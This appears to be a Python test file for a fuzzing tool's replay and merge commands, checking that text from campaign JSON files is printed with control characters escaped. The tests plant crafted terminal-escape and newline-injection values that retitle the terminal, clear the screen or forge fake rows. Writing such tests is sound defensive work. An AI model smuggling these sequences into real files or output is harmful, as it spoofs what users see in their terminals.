# fuzz's lines carry no control character from a campaign file


def test_replay_prints_a_crafted_signature_as_one_printable_line(camp, capsys):
    group = first_group(camp)
    edit(group / "finding.json", _set(["signature", "detail"], "\x1b]0;pwned\x07\nREPRODUCES fake\x1b[2J"))
    run_main(["fuzz", "replay", str(group)])
    out = capsys.readouterr().out
    assert len(out.strip().splitlines()) == 1, out
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b]0;pwned\\x07\\nREPRODUCES fake" in out


def test_merge_table_prints_no_control_character_from_a_campaign(camp, tmp_path, capsys):
    def plant(summary: Any) -> None:
        g = summary["groups"][0]
        g["signature"].update(side="builtin\x1b[2J", kind="value\nFAKE ROW")
        g["known"] = ["K\x1b]0;t\x07"]
        summary["ort_version"] = "1\x1b[31m"

    edit(camp / "summary.json", plant)
    assert run_main(["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")]) == 1
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\nFAKE ROW" not in out
    assert "builtin\\x1b[2J" in out and "value\\nFAKE ROW" in out
